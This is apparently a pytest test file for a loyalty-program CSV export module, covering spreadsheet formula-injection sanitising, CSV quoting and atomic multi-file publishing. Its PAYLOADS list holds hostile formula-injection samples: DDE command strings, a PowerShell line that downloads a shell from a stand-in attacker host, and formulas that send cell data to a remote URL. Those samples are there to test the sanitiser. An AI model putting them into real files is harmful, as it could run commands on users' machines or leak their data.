"""Cells that a spreadsheet would run, and files that appear all at once."""

import csv
import io
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loyalty.export_files import (
    ExportFailed,
    csv_cell,
    formula_safe,
    publication,
    spreadsheet_header,
    spreadsheet_rows,
)

# After the formula-injection lists that are passed around: each is run, or sends data away, when it is opened.
PAYLOADS = [
    "=1+1", "==1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")', "=IMPORTXML(CONCAT(\"http://example.com?v=\", A1), \"//a\")",
    "=IMPORTDATA(\"http://example.com\")", '=WEBSERVICE("http://example.com/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=2+5+cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    " =1+1", "  \t=1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", '"=1+1"', "'=1+1", "''=1+1", "' =1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "=1+1;x", "=1+1,x", "=1+1\tx", "\x00=1+1", "-5", "+17705550101",
    "=", "+", "-", "@", "\t", "\r", "＝",
]  # fmt: skip
HARMLESS = [
    "",
    " ",
    "Ada",
    "a=b",
    "1-2",
    "O'Neil",
    "'quoted'",
    '"Ada" Byron',
    "ada@example.com",
    "5",
    "é",
    " Ada",
    "（1）",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(payload: str) -> None:
    assert formula_safe(payload) == f"'{payload}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_run_stays_as_it_is(text: str) -> None:
    assert formula_safe(text) == text


@given(st.text(max_size=20))
def test_one_apostrophe_at_most_so_that_taking_it_away_restores_the_text(text: str) -> None:
    safe = formula_safe(text)
    assert safe in (text, f"'{text}")
    assert safe[:1] not in tuple("=+-@\t\r\n\0＝＋－＠")


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=12), min_size=3, max_size=3)))
def test_rows_come_back_as_they_were(rows: list[list[str]]) -> None:
    header = spreadsheet_header(["a", "b", "c"])
    content = header + b"".join(line for lines in spreadsheet_rows(rows) for line in lines)
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert read == [["a", "b", "c"], *([formula_safe(cell) for cell in row] for row in rows)]


def test_other_values_are_written_as_people_read_them() -> None:
    ((line,),) = spreadsheet_rows([[None, 5, -5, True, 1.5]])
    assert line == b",5,'-5,True,1.5\r\n"


def test_a_cell_is_quoted_where_it_must_be() -> None:
    assert [csv_cell(text) for text in ("Gold", "a,b", 'say "x"', "=1", "")] == [
        "Gold", '"a,b"', '"say ""x"""', "=1", '""',
    ]  # fmt: skip


def test_nothing_is_seen_before_it_is_whole(tmp_path: Path) -> None:
    with publication(tmp_path, lambda part: f"part{part}.csv", header=b"h\n", rows_per_file=2) as target:
        target.parts.add([b"1\n", b"2\n", b"3\n"])
        assert [path.name for path in tmp_path.iterdir() if not path.name.startswith(".")] == []
        manifest = target.show({"format": "X"}, lambda path: False)
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir() if path.suffix == ".csv"} == {
        "part1.csv": b"h\n1\n2\n",
        "part2.csv": b"h\n3\n",
    }
    assert sorted(os.listdir(tmp_path)) == ["manifest.json", "part1.csv", "part2.csv"]
    assert [(entry["rows"], entry["bytes"]) for entry in manifest["files"]] == [(2, 6), (1, 4)]


def test_whatever_goes_wrong_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(ZeroDivisionError), publication(tmp_path / "new", str) as target:
        target.parts.add([b"1\n"])
        raise ZeroDivisionError
    assert not (tmp_path / "new").exists()


def test_a_folder_in_the_place_of_a_file_is_refused_before_anything_moves(tmp_path: Path) -> None:
    (tmp_path / "part2.csv").mkdir()
    (tmp_path / "part1.csv").write_text("before")
    with (
        pytest.raises(ExportFailed, match="Is a directory"),
        publication(tmp_path, lambda part: f"part{part}.csv", rows_per_file=1) as target,
    ):
        target.parts.add([b"1\n", b"2\n"])
        target.show({}, lambda path: False)
    assert (tmp_path / "part1.csv").read_text() == "before"
    assert sorted(os.listdir(tmp_path)) == ["part1.csv", "part2.csv"]
